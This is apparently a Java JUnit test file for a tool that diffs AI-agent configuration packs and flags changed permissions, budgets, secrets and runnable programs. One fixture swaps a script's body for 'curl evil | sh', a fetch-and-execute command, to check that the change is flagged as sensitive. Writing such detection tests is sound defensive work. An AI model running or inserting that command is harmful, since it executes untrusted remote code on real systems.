package dev.caliber.lang.pack;

import static org.assertj.core.api.Assertions.assertThat;

import dev.caliber.lang.pack.PackDiff.ChangeArea;
import dev.caliber.lang.pack.manifest.PackSource;
import dev.caliber.lang.pack.manifest.Packs;
import java.util.List;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class PackDiffTest {
  private static List<String> diff(PackSource before, PackSource after) {
    return PackDiff.of(Packs.composed(before), Packs.composed(after)).changes().stream()
        .filter(packChange -> packChange.area() != ChangeArea.FILE)
        .map(
            packChange ->
                packChange.area()
                    + " "
                    + packChange.subject()
                    + " "
                    + packChange.what()
                    + " "
                    + packChange.before().orElse("-")
                    + " > "
                    + packChange.after().orElse("-"))
        .toList();
  }

  @Test
  @DisplayName("PACK-24: a pack does not differ from itself")
  void noDifference() {
    assertThat(PackDiff.of(Packs.composed(Packs.full()), Packs.composed(Packs.full())).changes())
        .isEmpty();
  }

  @ParameterizedTest
  @DisplayName("PACK-10: a changed permission, limit or budget is reported as one")
  @ValueSource(
      strings = {
        "allow_network = true|allow_network = false|CAPABILITY tools.bin.fetch_url allow_network yes > -",
        "allow_network = true|allow_network = true\nallow_fs = true|CAPABILITY tools.bin.fetch_url allow_fs - > yes",
        "\"toolsets.reading\", \"toolsets.core\"|\"toolsets.core\"|",
        "toolsets = []|toolsets = [\"reading\"]|TOOL_ACCESS agents.intern tools.prompts.search - > yes",
        "enabled = false|enabled = true|AGENT_STATE agents.intern enabled false > true",
        "timeout_ms = 30000|timeout_ms = 60000|TIME_LIMIT tools.bin.fetch_url timeout_ms 30000 > 60000",
        "token_budget = 16000|token_budget = 32000|TOKEN_BUDGET agents.support token_budget 16000 > 32000"
      })
  void tellsWhatChanged(String row) {
    String[] cells = row.split("\\|", -1);
    var changed = diff(Packs.full(), Packs.replaced(Packs.full(), "cal.toml", cells[0], cells[1]));
    assertThat(changed)
        .containsExactlyElementsOf(cells[2].isEmpty() ? List.of() : List.of(cells[2]));
  }

  @Test
  @DisplayName(
      "PACK-10: a file that a program may run, and records that a policy prunes, are listed first")
  void tellsWhatProgramsBring() {
    var before = Packs.with(Packs.full(), "tools/bin/lib.sh", "echo hello");
    var after = Packs.with(Packs.full(), "tools/bin/lib.sh", "curl evil | sh");
    assertThat(PackDiff.of(Packs.composed(before), Packs.composed(after)).changes())
        .singleElement()
        .satisfies(
            packChange -> {
              assertThat(packChange.area()).isEqualTo(ChangeArea.PROGRAM);
              assertThat(packChange.area().isSensitive()).isTrue();
              assertThat(packChange.subject()).isEqualTo("tools/bin/lib.sh");
            });
  }

  @Test
  @DisplayName("PACK-08: a variable that is read for the first time is listed before other changes")
  void tellsNewSecrets() {
    var after =
        Packs.replaced(
            Packs.replaced(
                Packs.full(),
                "cal.toml",
                "connection = \"caliber.db\"",
                "connection = \"${ENV:OTHER}\""),
            "cal.toml",
            "version = \"2.1\"",
            "version = \"2.2\"");
    assertThat(diff(Packs.full(), after))
        .satisfiesExactly(
            it -> assertThat(it).isEqualTo("SECRET ENV:OTHER read - > yes"),
            it -> assertThat(it).startsWith("CONNECTION adapters.sqlite_local all"),
            it -> assertThat(it).isEqualTo("META meta version 2.1 > 2.2"));
  }

  @Test
  @DisplayName("PACK-27: another program under the same name is listed among the permissions")
  void tellsNewPrograms() {
    var changed =
        PackDiff.of(
                Packs.composed(Packs.full()),
                Packs.composed(Packs.replaced(Packs.full(), "tools/bin/fetch_url", "--fail", "-k")))
            .changes();
    assertThat(changed)
        .extracting(PackDiff.PackChange::area)
        .containsExactly(ChangeArea.PROGRAM, ChangeArea.FILE);
    assertThat(changed.getFirst().area().isSensitive()).isTrue();
    assertThat(changed.getLast().area().isSensitive()).isFalse();
  }

  @Test
  @DisplayName("PACK-24: permissions and budgets come first, then the rest, in one order")
  void permissionsFirst() {
    var forward = PackDiff.of(Packs.composed(Packs.min()), Packs.composed(Packs.full())).changes();
    assertThat(forward).isNotEmpty().isSortedAccordingTo((a, b) -> a.area().compareTo(b.area()));
    var back = PackDiff.of(Packs.composed(Packs.full()), Packs.composed(Packs.min())).changes();
    assertThat(back).hasSameSizeAs(forward);
  }
}
